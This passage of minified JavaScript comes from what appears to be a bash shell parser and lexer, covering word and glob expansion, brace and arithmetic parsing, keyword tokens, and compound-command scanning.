let e=this.#e;if(e!==void 0){let s=t._resolveScript(e.source,e.start,e.end,e.depth,e.parenBoundary,e.context);e.context===void 0&&(s.source=e.source),this.script=
s}return this.#t}set script(e){this.#t=e,this.#e=void 0}toJSON(){return{type:this.type,pos:this.pos,end:this.end,text:this.text,script:this.script}}},qi=class extends wt{operator;constructor(e,s,r,n,o){
super("ProcessSubstitution",e,s,r,o),this.operator=n}toJSON(){return{type:this.type,pos:this.pos,end:this.end,text:this.text,operator:this.operator,script:this.
script}}},zr=class t{static _resolveExpression;type="ArithmeticExpansion";pos;end;text;#e;#t=void 0;constructor(e,s,r,n){this.pos=e,this.end=s,this.text=r,this.#e=
n}get expression(){let e=this.#e;return e!==void 0&&(this.expression=t._resolveExpression(e.body,e.offset,e.source,e.depth,e.context,e.depth+1)),this.#t}set expression(e){
this.#t=e,this.#e=void 0}toJSON(){return{type:this.type,pos:this.pos,end:this.end,text:this.text,expression:this.expression}}};function Z$(t){let e="";for(let s of t)e+=s.type==="Literal"?s.value:s.text;return e}function Oi(t){let e=t.indexOf("\\");if(e===-1)return t;let s="",r=0;for(let n=e;n<
t.length;n++)if(t.charCodeAt(n)===92){if(s+=t.slice(r,n),n++,n>=t.length){s+="\\",r=n;break}t.charCodeAt(n)!==10&&(s+=t[n]),r=n+1}return s+t.slice(r)}function Ym(t){
let e=1;for(;t[e]==="\\"&&t[e+1]===`
`;)e+=2;return e===1||t[e]!=="("?t:t[0]+t.slice(e)}function Ni(t){let e="";for(let s of t)switch(s.type){case"Literal":case"Glob":case"SingleQuoted":case"AnsiCQ\
uoted":e+=s.value;break;case"DoubleQuoted":case"LocaleString":e+=Z$(s.parts);break;case"CommandExpansion":e+=s.text[0]==="$"?Ym(s.text):s.text;break;case"Extend\
edGlob":e+=Ym(s.text);break;default:e+=s.text;break}return e}var je=class{type="Word";text;pos;end;#e;#t;#r;#s;#n=null;constructor(e,s,r,n,o,i=0){this.text=e,this.pos=s,this.end=r,this.#e=n,this.#t=o,this.#r=i,this.#s=o===
void 0?void 0:null}get value(){if(this.#n===null){let e=this.#e===void 0&&this.#s===null?void 0:this.parts;this.#n=e?Ni(e):Oi(this.text)}return this.#n}get parts(){
return this.#s===null&&(this.#s=this.#t?.(this.#e??"",this,this.#r)??void 0),this.#s}set parts(e){this.#s=e??void 0}toJSON(){return{type:this.type,text:this.text,
pos:this.pos,end:this.end,parts:this.parts,value:this.value}}};function Gr(t){return{boundaries:t===void 0?void 0:gc(t),wordParts:void 0,embeddedParts:void 0,arrayParts:void 0}}function gc(t){return t.boundaries??(t.boundaries=
new Map)}function nt(t,e,s){for(;e+1<s&&t.charCodeAt(e)===92&&t.charCodeAt(e+1)===10;)e+=2;return e}function Rs(t){return/[*?[]/.test(t)}var Ht=new Uint8Array(128);Ht[33]=1;Ht[94]=1;Ht[91]=1;Ht[93]=1;Ht[58]=1;Ht[46]=1;Ht[61]=1;Ht[45]=1;Ht[92]=1;function e_(t,e,s,r,n){
let o=s-1;for(;o>e&&t.charCodeAt(o)!==93;)o--;if(o===e)return null;let i=[],a=[],l=[],c=0,d=!1;for(let y=e;y<s;y++){for(;r&&c<r.length&&r[c].end<=y+n;)c++;let x=r?.[c],
$=y,C=0;if(x&&x.pos<=y+n&&x.type!=="Literal")y=x.end-n-1;else{if(C=t.charCodeAt(y),C===92&&y+1<s&&t.charCodeAt(y+1)===10){y++;continue}(C>=128||!Ht[C])&&(C=0)}let _=a.
length-1;if(C===0&&_>=0&&a[_]===0){l[_]++;continue}_>=0&&a[_]===91&&(C===58||C===61||C===46)&&(d=!0),i.push($),a.push(C),l.push(1)}let u=a.length,p;if(d){p=new Int32Array(
u).fill(-1);let y=-1,x=-1,$=-1,C=-1;for(let _=u-1;_>=0;_--){let T=a[_+2];if(T===93?y=_+2:a[_+3]===93&&(T===58?x=_+2:T===61?$=_+2:T===46&&(C=_+2)),a[_]!==91)continue;
let q=a[_+1],P=q===58?x:q===61?$:q===46?C:-1;P!==-1&&(q===46||y===-1||y>P)&&(p[_]=P+2)}}let f=y=>p===void 0?-1:p[y],m=new Int32Array(u+2).fill(-1),h=(y,x)=>{if(y>=
u)return-1;if(x&&a[y]===45&&y+1<u&&a[y+1]!==93){let $=y+1;if(a[$]===92){if($+1>=u)return-1;$++}let C=$+1;if(a[$]===91&&a[$+1]===46){let _=f($);_!==-1&&(C=_)}else if(a[$]===
0&&l[$]>1)return m[$];return C>=u?-1:a[C]===93?C+1:m[C]}return a[y]===93?y+1:m[y]};for(let y=u-1;y>=0;y--){let x=a[y],$=y+1,C=!0;if(x===92){if(y+1>=u)continue;$=
y+2}else if(x===91){let _=a[y+1];if(_===58||_===61||_===46){let T=f(y);T!==-1&&($=T,C=_===46)}}m[y]=h($,C)}let g=new Map;for(let y=0;y<u;y++){if(a[y]!==91)continue;
let x=y+1;if((a[x]===33||a[x]===94)&&x++,x>=u)continue;let $=a[x]===93?h(x+1,!0):m[x];$!==-1&&g.set(i[y],i[$-1]+1)}return g}function bc(t,e,s,r,n,o,i){for(;e<s;){
for(;r&&n<r.length&&r[n].end<=e+o;)n++;let a=r?.[n];if(a&&a.pos===e+o&&a.end<=s+o){i.push(a),e=a.end-o,n++;continue}let l=a?Math.min(s,(a.pos>e+o?a.pos:a.end)-o):
s,c=t.slice(e,l);i.push({type:"Literal",pos:e+o,end:l+o,text:c,value:Oi(c)}),e=l}return n}function Bt(t,e,s,r,n=0){let o,i,a=0,l=0,c=e;for(let d=e;d<s;d++){for(;r&&
a<r.length&&r[a].end<=d+n;)a++;let u=r?.[a];if(u&&u.pos<=d+n&&u.type!=="Literal"){d=u.end-n-1;continue}let p=t.charCodeAt(d);if(p===92){d++;continue}let f;if(p===
42||p===63){let g=u?Math.min(s,u.end-n):s,y=nt(t,d+1,g);if(y<g&&t.charCodeAt(y)===40)continue;if(f=d+1,p===42)for(;f<g&&t.charCodeAt(f)===42;){let x=nt(t,f+1,g);
if(x<g&&t.charCodeAt(x)===40)break;f++}}else if(p===91){i===void 0&&(i=e_(t,d,s,r,n));let g=i?.get(d);if(g===void 0)continue;f=g}else continue;o||(o=[]),l=bc(t,
c,d,r,l,n,o);let m=t.slice(d,f),h;if(p===91){let g=[];l=bc(t,d+1,f-1,r,l,n,g),h={type:"Glob",kind:"bracket",pos:d+n,end:f+n,text:m,value:"["+Ni(g)+"]",parts:g}}else
h={type:"Glob",kind:p===42?"star":"question",pos:d+n,end:f+n,text:m,value:m,parts:void 0};o.push(h),c=f,d=f-1}return o?(bc(t,c,s,r,l,n,o),o):r??void 0}var b={Word:0,Assignment:1,Semi:2,Newline:3,Pipe:4,And:5,Or:6,Amp:7,LParen:8,RParen:9,LBrace:10,RBrace:11,Bang:12,If:13,Then:14,Else:15,Elif:16,Fi:17,Do:18,Done:19,
For:20,While:21,Until:22,In:23,Case:24,Esac:25,Function:26,DoubleSemi:27,SemiAmp:28,DoubleSemiAmp:29,Select:30,DblLBracket:31,DblRBracket:32,EOF:33,ArithCmd:34,
Coproc:35,Redirect:36},Li=class{token=b.EOF;_value="";_owner;pos=0;end=0;fileDescriptor=void 0;variableName=void 0;descriptorEnd=0;delimiterQuoted=!1;content=void 0;targetPos=0;targetEnd=0;assignmentOperatorPos=-1;raw=!1;keywordEligible=!1;constructor(e=null){
this._owner=e}get value(){return this._value??(this._value=this._owner===null?"":this._owner._tokenValue(this.pos,this.end,this.raw))}set value(e){this._value=e}reset(){
this.token=b.EOF,this._value="",this.pos=0,this.end=0,this.fileDescriptor=void 0,this.variableName=void 0,this.descriptorEnd=0,this.delimiterQuoted=!1,this.content=
void 0,this.targetPos=0,this.targetEnd=0,this.assignmentOperatorPos=-1,this.raw=!1,this.keywordEligible=!1}copyFrom(e){this.token=e.token,this._value=e._value,this.
pos=e.pos,this.end=e.end,this.fileDescriptor=e.fileDescriptor,this.variableName=e.variableName,this.descriptorEnd=e.descriptorEnd,this.delimiterQuoted=e.delimiterQuoted,
this.content=e.content,this.targetPos=e.targetPos,this.targetEnd=e.targetEnd,this.assignmentOperatorPos=e.assignmentOperatorPos,this.raw=e.raw,this.keywordEligible=
e.keywordEligible}},Qm=new Map([["if",b.If],["then",b.Then],["else",b.Else],["elif",b.Elif],["fi",b.Fi],["do",b.Do],["done",b.Done],["for",b.For],["while",b.While],
["until",b.Until],["in",b.In],["case",b.Case],["esac",b.Esac],["function",b.Function],["select",b.Select],["coproc",b.Coproc],["!",b.Bang],["{",b.LBrace],["}",b.
RBrace]]);var ie=new Uint8Array(128);ie[124]=1;ie[38]=1;ie[59]=1;ie[40]=1;ie[41]=1;ie[60]=1;ie[62]=1;ie[32]=1;ie[9]=1;ie[10]=1;ie[92]=2;ie[39]=2;ie[34]=2;ie[36]=2;ie[96]=
2;ie[123]=2;function Mn(t,e,s){for(;e<s;){let r=t.charCodeAt(e);if(r===32||r===9)e++;else if(r===92&&e+1<s&&t.charCodeAt(e+1)===10)e+=2;else break}return e}var oh=new Uint8Array(
128);for(let t of[9,10,32,33,37,38,40,41,42,43,44,45,47,58,60,61,62,63,94,124])oh[t]=1;function Xr(t,e,s){for(let r=e;r<s;r++){let n=t.charCodeAt(r);if(n===92||
n===39||n===34||n===36||n===96||(n===60||n===62)&&r+1<s&&t.charCodeAt(r+1)===40)return!0}return!1}function Xm(t,e,s=!1,r){let n=0,o=0;for(let i=0;i<t.length;i++){
let a=t.charCodeAt(i);if(a===92){i++;continue}if(a===123){n++;continue}if(a===125){n>0&&n--;continue}if(a===39){for(i++;i<t.length&&t.charCodeAt(i)!==39;)i++;continue}
if(a===34){for(i++;i<t.length;){let c=t.charCodeAt(i);if(c===34)break;if(c===92){i+=2;continue}let d=r?.(i,!0)??i;if(d>i){i=d;continue}i++}continue}let l=r?.(i,
!1)??i;if(l>i){i=l-1;continue}if(s&&n===0){if(a===63){o++;continue}if(a===58&&o>0){o--;continue}}if(a===e&&n===0)return i}return-1}var gs=new Uint8Array(128);for(let t=97;t<=
122;t++)gs[t]=3;for(let t=65;t<=90;t++)gs[t]=3;for(let t=48;t<=57;t++)gs[t]=2;gs[95]=3;var bs=new Uint8Array(128);bs[63]=1;bs[64]=1;bs[42]=1;bs[43]=1;bs[33]=1;bs[61]=
1;function Jm(t){return t<128&&t!==61&&bs[t]===1}var t_={63:"?",64:"@",42:"*",43:"+",33:"!"};function Zm(t){let e=t.type;return e==="Literal"||e==="SimpleExpans\
ion"||e==="ParameterExpansion"||e==="CommandExpansion"||e==="ArithmeticExpansion"}function s_(t,e,s){for(let r=e;r<s;r++){let n=t.charCodeAt(r);if(n<48||n>57)return!1}
return s>e}var vt=-1,wc=0,eh=1,kc=2,th=3,Be=4;function r_(t,e){let s=t[t.length-1],r=e[0],n=0;s?.type==="Literal"&&r?.type==="Literal"&&s.end===r.pos&&(t[t.length-
1]={type:"Literal",pos:s.pos,end:r.end,text:s.text+r.text,value:s.value+r.value},n=1);for(let o=n;o<e.length;o++)t.push(e[o]);return t}function sh(t){return t<vt}
function rh(t){return-t-2}function yc(t,e,s,r){let n=r;for(let o=e;o<s&&n>=0;o++){let i=t.charCodeAt(o);if(n>=Be)i===91?n++:i===93&&--n===Be&&(n=kc);else if(n===
wc)n=i<128&&gs[i]&1?eh:vt;else if(n===eh){if(i<128&&gs[i]&2)continue;i===91?n=Be+1:i===43?n=th:n=i===61?-o-2:vt}else n===kc?i===43?n=th:n=i===61?-o-2:vt:n=i===61?
-o-2:vt}return n}function Se(t,e,s,r=0,n=0){t.token=e,t._value=s,t.pos=r,t.end=n,t.fileDescriptor=void 0,t.variableName=void 0,t.descriptorEnd=0,t.delimiterQuoted=
!1,t.content=void 0,t.assignmentOperatorPos=-1,t.raw=!1,t.keywordEligible=!1}function Is(t,e,s,r,n){t.token=e,t._value=null,t.pos=s,t.end=r,t.fileDescriptor=void 0,
t.variableName=void 0,t.descriptorEnd=0,t.delimiterQuoted=!1,t.content=void 0,t.assignmentOperatorPos=-1,t.raw=n,t.keywordEligible=!1}function nh(t,e,s){switch(t.
charCodeAt(e)){case 33:return s===1?b.Bang:void 0;case 123:return s===1?b.LBrace:void 0;case 125:return s===1?b.RBrace:void 0;case 105:{if(s!==2)return;let r=t.
charCodeAt(e+1);return r===102?b.If:r===110?b.In:void 0}case 102:return s===2?t.charCodeAt(e+1)===105?b.Fi:void 0:s===3?t.startsWith("for",e)?b.For:void 0:s===8&&
t.startsWith("function",e)?b.Function:void 0;case 116:return s===4&&t.startsWith("then",e)?b.Then:void 0;case 101:return s!==4?void 0:t.startsWith("else",e)?b.Else:
t.startsWith("elif",e)?b.Elif:t.startsWith("esac",e)?b.Esac:void 0;case 100:return s===2?t.charCodeAt(e+1)===111?b.Do:void 0:s===4&&t.startsWith("done",e)?b.Done:
void 0;case 99:return s===4?t.startsWith("case",e)?b.Case:void 0:s===6&&t.startsWith("coproc",e)?b.Coproc:void 0;case 119:return s===5&&t.startsWith("while",e)?
b.While:void 0;case 117:return s===5&&t.startsWith("until",e)?b.Until:void 0;case 115:return s===6&&t.startsWith("select",e)?b.Select:void 0;default:return}}var E={
Normal:0,CommandStart:1,TestMode:2,CommandPrefix:3,Declaration:4,ArrayElement:5,FunctionName:6,CasePattern:7,EvalArgument:8};function n_(t){return t===32||t===9||
t===10||t===124}var it=class t{static _findSubstitutionEnd;src;srcEnd;parenBoundary;pos;current;nextState;hasPeek;pendingHereDocs;substitutionContext;_errors=null;_buildParts=!1;_buildValue=!1;_nestingDepth=0;constructor(e,s=0,r=e.
length,n=!1,o=Gr()){if(this.src=e,this.srcEnd=r,this.parenBoundary=n,this.pos=s,this.current=new Li(this),this.nextState=new Li(this),this.hasPeek=!1,this.pendingHereDocs=
null,this.substitutionContext=o,s===0&&e.charCodeAt(0)===35&&e.charCodeAt(1)===33){let i=e.indexOf(`
`);this.pos=i===-1?this.srcEnd:i+1}}getSource(){return this.src}fork(e,s,r=!1){let n=new t(this.src,e,s,r,this.substitutionContext);return n._nestingDepth=this.
_nestingDepth,n}getSubstitutionContext(){return this.substitutionContext}get errors(){return this._errors??(this._errors=[])}commandExpansion(e,s,r,n,o=!1){let i=this.
scriptWindow(this.src,r,r+n.length,o);return new wt("CommandExpansion",e,this.pos,s,i)}decodedCommandExpansion(e,s,r){let n=this.scriptWindow(r,0,r.length,!1,!0);
return new wt("CommandExpansion",e,this.pos,s,n)}processSubstitution(e,s,r,n){let o=this.scriptWindow(this.src,e+2,e+2+n.length,!this._unbalanced);return new qi(
e,this.pos,s,r,o)}scriptWindow(e,s,r,n,o=!1){if(this._nestingDepth>256)return;let i=o?void 0:this.substitutionContext;return{source:e,start:s,end:r,depth:this._nestingDepth+
1,parenBoundary:n,context:i}}getPos(){return this.pos}findSubstitutionEnd(e,s,r=this._nestingDepth+1){return t._findSubstitutionEnd===void 0?-1:t._findSubstitutionEnd(
this.src,e,s,r,this.substitutionContext)}_tokenValue(e,s,r){return r?this.src.slice(e,s):this.wordValueOf(e,s)}wordValueOf(e,s){let r=this.pos,n=this.srcEnd,o=this.
_bracketWindow,i=this._arithmeticBracketWindow,a=this._buildValue,l=this._unbalanced,c=this._errors===null?0:this._errors.length;this.pos=e,this.srcEnd=s,this._buildValue=
!0,this.readWordText(),this.pos<s&&this._wordAssignmentState!==void 0&&this._wordAssignmentState>=Be&&(this.pos=e,this.readWordText(!0));let d=this._wordText;return this.
pos=r,this.srcEnd=n,this._bracketWindow=o,this._arithmeticBracketWindow=i,this._buildValue=a,this._unbalanced=l,this._errors!==null&&(this._errors.length=c),d}findClosingBracket(e,s=this.
srcEnd){let r=Math.min(s,this.srcEnd),n=this._bracketWindow;if((!n||n.limit!==r)&&(n={limit:r,depth:this._nestingDepth,last:this.src.lastIndexOf("]",r-1)},this.
_bracketWindow=n),e>n.last||(n.depth!==this._nestingDepth&&(n={limit:r,depth:this._nestingDepth,last:n.last},this._bracketWindow=n),n.failed?.has(e)))return-1;let o=[],
i=this.findClosingShellDelimiter(e,s,93,!1,!0,o);if(i===-1){let a=n.failed??(n.failed=new Set);for(let l of o)for(let c of l)a.add(c)}return i}findClosingArithmeticBracket(e,s=this.
srcEnd){let r=Math.min(s,this.srcEnd),n=this._arithmeticBracketWindow;return(!n||n.end!==r||n.depth!==this._nestingDepth)&&(n={end:r,depth:this._nestingDepth,failed:new Set},
this._arithmeticBracketWindow=n),n.failed.has(e)?-1:this.findClosingShellDelimiter(e,s,93,!1,!1,void 0,n.failed)}findClosingBrace(e,s=this.srcEnd){return this.findClosingShellDelimiter(
e,s,125)}findClosingParenthesis(e,s=this.srcEnd){let r=this.pos,n=this.srcEnd,o=this._bracketWindow,i=this._arithmeticBracketWindow,a=this._unbalanced;this.pos=
e,this.srcEnd=Math.min(s,this.srcEnd),this.extractBalanced();let l=this._unbalanced?-1:this.pos-1;return this.pos=r,this.srcEnd=n,this._bracketWindow=o,this._arithmeticBracketWindow=
i,this._unbalanced=a,l}findArithmeticExpansionEnd(e,s=this.srcEnd){let r=this.fork(e,s);return r.pos=e+1,r.scanArithmeticBody(),r.pos}findArithmeticWordEnd(e,s=this.
srcEnd){let r=this.fork(e,s);return r.pos=e,r.scanArithmeticWordEnd()}scanArithmeticWordEnd(){for(;this.pos<this.srcEnd;){let e=this.src.charCodeAt(this.pos);if(e===
36){this.readDollar();continue}if(e===96){this.readBacktickExpansion();continue}if(e===39){this.pos++,this.skipSQ();continue}if(e===34){this.pos++,this.skipDQ();
continue}if(e===92){this.pos+=2;continue}if(e===91){let s=this.findClosingBracket(this.pos+1);if(s!==-1){this.pos=s+1;continue}}if((e===60||e===62)&&this.src.charCodeAt(
this.pos+1)===40){this.pos+=2,this.extractBalanced();continue}if(e<128&&oh[e])break;this.pos++}return this.pos}findClosingShellDelimiter(e,s,r,n=!1,o=!0,i,a){let l=this.
pos,c=this.srcEnd,d=this._bracketWindow,u=this._arithmeticBracketWindow,p=this._unbalanced;this.srcEnd=Math.min(s,this.srcEnd);let f=[r];i?.push([]);let m=a?[e]:
void 0,h=e,g=!0,y=-1;for(;h<this.srcEnd;){let x=f[f.length-1];i&&x===93&&i[i.length-1].push(h);let $=this.src.charCodeAt(h);if($===92){h+1<this.srcEnd&&this.src.
charCodeAt(h+1)!==10&&(g=!1),h+=2;continue}if($===35&&n&&f.length===1&&g){for(;h<this.srcEnd&&this.src.charCodeAt(h)!==10;)h++;continue}if($===39){this.pos=h+1,
this.skipSQ(),h=this.pos,g=!1;continue}if($===34){this.pos=h+1,this.skipDQ(),h=this.pos,g=!1;continue}if($===96){for(h++;h<this.srcEnd&&this.src.charCodeAt(h)!==
96;)this.src.charCodeAt(h)===92&&h++,h++;h<this.srcEnd&&h++,g=!1;continue}if($===36&&h+1<this.srcEnd&&this.src.charCodeAt(h+1)===40||($===60||$===62)&&h+1<this.
srcEnd&&this.src.charCodeAt(h+1)===40){this.pos=h+2,this.extractBalanced(),h=this.pos,g=!1;continue}if($===36&&h+1<this.srcEnd){let C=this.src.charCodeAt(h+1);if(C===
39){h=Wn(this.src,h+2,this.srcEnd).end,g=!1;continue}if(C===36){h+=2,g=!1;continue}if(C===123&&o){f.push(125),i?.push([]),h+=2,g=!1;continue}}if(n&&f.length===1&&
($===91&&g?(f.push(93),i?.push([])):y===-1&&($===59||$===38||$===124||$===60||$===62||$===40&&!Jm(this.src.charCodeAt(h-1)))&&(y=h)),x===93&&$===91)f.push(93),i?.
push([]),m?.push(h+1);else if(x===41&&$===40)f.push(41),i?.push([]);else if($===x){if(f.pop(),m?.pop(),i?.pop(),f.length===0)return this.pos=l,this.srcEnd=c,this.
_bracketWindow=d,this._arithmeticBracketWindow=u,this._unbalanced=p,y!==-1&&this.errors.push({message:`unexpected '${this.src[y]}' in array assignment`,pos:y}),
h;g=!1,h++;continue}g=$<128&&(ie[$]&1)!==0,h++}if(m)for(let x of m)a.add(x);return this.pos=l,this.srcEnd=c,this._bracketWindow=d,this._arithmeticBracketWindow=
u,this._unbalanced=p,-1}scanBraceExpansion(e,s){let r=this.src,n=this.srcEnd,o=s.get(e);if(o!==void 0)return o;let i=this.pos,a=this._unbalanced,l=this._errors===
null?0:this._errors.length,c=[e,0],d=e+1;for(;d<n;){let u=r.charCodeAt(d),p=u<128?ie[u]:0;if(p===0){if(d++,u===125){let m=c.pop();if(s.set(c.pop(),m?d:-1),c.length===
0)break}else(u===44||u===46&&r.charCodeAt(d)===46)&&(c[c.length-1]=1);continue}let f=d+1<n?r.charCodeAt(d+1):0;if(p&1)if(f===40&&(u===60||u===62))this.pos=d+2,this.
extractBalanced(),d=this.pos;else if(u===40&&Jm(r.charCodeAt(d-1))){let m=this.findClosingShellDelimiter(d+1,n,41);if(m===-1)break;d=m+1}else break;else if(u===
92)d+=2;else if(u===39)this.pos=d+1,this.skipSQ(),d=this.pos;else if(u===34)this.pos=d+1,this.skipDQ(),d=this.pos;else if(u===96){for(d++;d<n&&r.charCodeAt(d)!==
96;)d+=r.charCodeAt(d)===92?2:1;d++}else if(u===123)c.push(d,0),d++;else if(f===39)d=Wn(r,d+2,n).end;else if(f===123){let m=this.findClosingBrace(d+2,n);if(m===
-1)break;d=m+1}else f===40?(this.pos=d+2,this.extractBalanced(),d=this.pos):d++}this.pos=i,this._unbalanced=a,this._errors!==null&&(this._errors.length=l);for(let u=0;u<
c.length;u+=2)s.set(c[u],-1);return s.get(e)}skipSubshellBody(){return this.extractBalanced(!1),this._unbalanced?-1:this.pos}skipCompoundBody(e){let s=[{close:e,
phase:e===b.Esac?"case-pattern":"commands"}],r=!0;for(;;){let n=s[s.length-1].phase,o=r?E.CommandStart:E.Normal;n==="function-name"?o=E.FunctionName:n==="case-p\
attern"&&r&&(o=E.CasePattern);let i=this.next(o),a=i.token;if(a===b.EOF)return-1;let l=s.length-1,c=s[l];if(c.phase==="function-name"){if(a===b.Newline)continue;
c.phase="function-body",r=!0;continue}else if(c.phase==="function-body"){if(a===b.Newline)continue;if(c.phase="commands",r=!0,a===b.LParen&&this.peek(E.Normal).
token===b.RParen){this.next(E.Normal),c.phase="function-body";continue}}else if(c.phase==="coproc-command"){if(a===b.Newline)continue;if(a===b.Word){c.phase="co\
proc-body",r=!0;continue}c.phase="commands",r=!0}else if(c.phase==="coproc-body"){if(a===b.Newline||(c.phase=a===b.Word&&i.keywordEligible&&i.value==="time"?"ti\
me-command":"commands",r=!0,c.phase==="time-command"))continue}else if(c.phase==="time-command"){if(a===b.Word&&i.keywordEligible&&i.value==="-p"){c.phase="time\
-command-after-p";continue}if(a===b.Word&&i.keywordEligible&&i.value==="--"){c.phase="commands";continue}c.phase="commands",r=!0}else if(c.phase==="time-command\
-after-p"){if(a===b.Word&&i.keywordEligible&&i.value==="--"){c.phase="commands";continue}c.phase="commands",r=!0}else if(c.phase==="for-header"){if(a===b.ArithCmd||
a===b.Semi||a===b.Newline){r=!0;continue}if(a===b.Do||a===b.LBrace){c.close=a===b.Do?b.Done:b.RBrace,c.phase="commands",r=!0;continue}}else if(c.phase==="case-w\
ord"){if(a===b.Newline)continue;c.phase="case-in",r=!1;continue}else if(c.phase==="case-in"){if(a===b.Newline){r=!0;continue}c.phase="case-pattern",r=!0;continue}else if(c.
phase==="case-pattern"){if(a===b.Esac&&r){if(s.pop(),s.length===0)return i.end;r=!1;continue}a===b.RParen?(c.phase="commands",r=!0):r=a===b.Newline;continue}if(a===
c.close){if(s.pop(),s.length===0)return i.end;r=!1;continue}if(r)switch(a){case b.LParen:s.push({close:b.RParen,phase:"commands"});break;case b.LBrace:s.push({close:b.
RBrace,phase:"commands"});break;case b.If:s.push({close:b.Fi,phase:"commands"});break;case b.For:s.push({close:b.Done,phase:"for-header"});break;case b.While:case b.
Until:case b.Select:s.push({close:b.Done,phase:"commands"});break;case b.Case:s.push({close:b.Esac,phase:"case-word"});break;case b.DblLBracket:if(!this.skipTestCommandBody())
return-1;r=!1;continue;case b.Assignment:case b.Redirect:case b.Bang:case b.Then:case b.Else:case b.Elif:case b.Do:case b.In:break;case b.Semi:case b.Newline:case b.
Pipe:case b.And:case b.Or:case b.Amp:case b.DoubleSemi:case b.SemiAmp:case b.DoubleSemiAmp:break;case b.Function:c.phase="function-name";break;case b.Coproc:c.phase=
"coproc-command";break;default:a===b.Word&&i.keywordEligible&&i.value==="time"?(c.phase="time-command",r=!0):r=!1;continue}switch(a){case b.Semi:case b.Newline:case b.
Pipe:case b.And:case b.Or:case b.Amp:r=!0;break;case b.DoubleSemi:case b.SemiAmp:case b.DoubleSemiAmp:c.close===b.Esac&&(c.phase="case-pattern"),r=!0;break;case b.
RParen:r=!0;break}}}skipTestGroup(){let e=1;for(;;){let s=this.next(E.TestMode);if(s.token===b.EOF)return-1;if(s.token===b.DblRBracket)return this.unshift(s),-1;
if(s.token===b.LParen)e++;else if(s.token===b.RParen&&--e===0)return s.end}}skipTestCommandBody(){for(;;){let e=this.next(E.TestMode).token;if(e===b.DblRBracket)
return!0;if(e===b.EOF)return!1}}buildWordParts(e){this._buildParts=!0,this.pos=e;let s=this.src.charCodeAt(e);if((s===60||s===62)&&e+1<this.srcEnd&&this.src.charCodeAt(
e+1)===40){this.pos=e+2;let r=this.extractBalanced(),n=this.src.slice(e,this.pos),o=this.processSubstitution(e,n,s===60?"<":">",r);this.pos<this.srcEnd?(this.readWordText(),
this._wordParts?this._wordParts.unshift(o):this._wordParts=[o]):this._wordParts=[o]}else this.readWordText(),this.pos<this.srcEnd&&this._wordAssignmentState!==void 0&&
this._wordAssignmentState>=Be&&(this.pos=e,this.readWordText(!0));return this._wordParts}buildEmbeddedWordParts(e,s=!1){return this._buildParts=!0,this.pos=e,this.
readInnerWordText(!1,s),this._wordParts}buildArrayElementParts(e){let s=this.findClosingBracket(e+1);if(s===-1)return this.buildWordParts(e);let r=this.src;this.
_buildParts=!0;let n=Xr(r,e,s+1)?this.parseSubFieldWord(e,s+1,"embedded"):void 0;this.pos=s+1,this.readWordText(!1,E.ArrayElement);let o=this.pos,i=nt(r,s+1,o),
a=r.charCodeAt(i),l=a===61||a===43&&r.charCodeAt(i+1)===61,c=n?.parts,d=this._wordParts;if(l&&(d=Bt(r,s+1,o,d)??d),!c&&!d)return l?null:Bt(r,e,o,void 0)??null;let u=r.
slice(e,s+1);c||(c=[{type:"Literal",pos:e,end:s+1,text:u,value:n?.value??u}]),d||(d=o>s+1?[{type:"Literal",pos:s+1,end:o,text:r.slice(s+1,o),value:this._wordText}]:
[]);let p=r_(c,d);return l||(p=Bt(r,e,o,p)??p),p.length>1||p[0].type!=="Literal"?p:null}buildHereDocParts(e,s){this._buildParts=!0;let r=this.src,n=[],o=!1,i="",
a=e,l=e,c=()=>{l>a&&(n.push({type:"Literal",pos:a,end:l,value:i,text:r.slice(a,l)}),i="")};for(;l<s;){let d=r.charCodeAt(l);if(d===92){if(l+1<s){let u=r.charCodeAt(
l+1);if(u===10){l+=2;continue}if(u===36||u===96||u===92){i+=String.fromCharCode(u),l+=2;continue}}i+="\\",l++;continue}if(d===36&&r.charCodeAt(l+1)!==39&&r.charCodeAt(
l+1)!==34){c(),a=l,this.pos=l,this.readDollar(),this._resultPart?(o=!0,n.push(this._resultPart),a=this.pos):i+=r.slice(l,this.pos),l=this.pos;continue}if(d===96){
c(),a=l,this.pos=l,this.readBacktickExpansion(),this._resultPart?(o=!0,n.push(this._resultPart),a=this.pos):i+=r.slice(l,this.pos),l=this.pos;continue}i+=r[l],l++}
return c(),o?n:null}registerHereDocTarget(e){if(this.pendingHereDocs!==null){for(let s of this.pendingHereDocs)if(!s.target){s.target=e;return}}}readTestRegexWord(){
this.hasPeek=!1,this.skipSpacesAndTabs();let e=this.src,s=this.srcEnd,r=this.pos,n=0;for(;this.pos<s;){let o=e.charCodeAt(this.pos);if(o===40){n++,this.pos++;continue}
if(o===92){this.pos+=this.pos+1<s?2:1;continue}if(o===39){let i=this.pos++,a=i>r&&e.charCodeAt(i-1)===36;for(;this.pos<s&&e.charCodeAt(this.pos)!==39;)a&&e.charCodeAt(
this.pos)===92&&this.pos+1<s&&this.pos++,this.pos++;this.pos<s?this.pos++:this.errors.push({message:a?"unterminated ANSI-C quote":"unterminated single quote",pos:i});
continue}if(o===34){this.pos++,this.readDoubleQuoted();continue}if(o===96){this.readBacktickExpansion();continue}if(n>0){o===41&&n--,this.pos++;continue}if(o===
36){this.readDollar();continue}if((o===60||o===62)&&this.pos+1<s&&e.charCodeAt(this.pos+1)===40){let i=this.pos;this.pos+=2,this.extractBalanced(),this._unbalanced&&
this.errors.push({message:"unterminated process substitution",pos:i});continue}if(o<128&&ie[o]&1&&o!==124)break;this.pos++}return Se(this.current,b.Word,e.slice(
r,this.pos),r,this.pos),this.current}readCStyleForExprs(){this.hasPeek=!1;let e=this.src,s=this.srcEnd;for(;this.pos<s&&(e.charCodeAt(this.pos)===32||e.charCodeAt(
this.pos)===9);)this.pos++;let r=this.pos;this.pos<s&&e.charCodeAt(this.pos)===40&&this.pos++;let n=[this.pos,0,0],o=["","","",0,0,0],i=0,a=1,l=this.pos,c=!1,d=u=>{
let p=e.slice(l,u);o[i]=p.trim(),o[3+i]=n[i]+p.length-p.trimStart().length};for(;this.pos<s&&a>0;){let u=e.charCodeAt(this.pos);if(u===40)a++,this.pos++;else if(u===
41){if(a--,a===0){for(c||d(this.pos),i<2&&this.errors.push({message:"expected three arithmetic expressions in for header",pos:this.pos}),this.pos++;this.pos<s&&
(e.charCodeAt(this.pos)===32||e.charCodeAt(this.pos)===9);)this.pos++;this.pos<s&&e.charCodeAt(this.pos)===41&&this.pos++;break}this.pos++}else if(u===59&&a===1){
if(i===2){c||(d(this.pos),this.errors.push({message:"expected three arithmetic expressions in for header",pos:this.pos})),c=!0,this.pos++;continue}d(this.pos),i++,
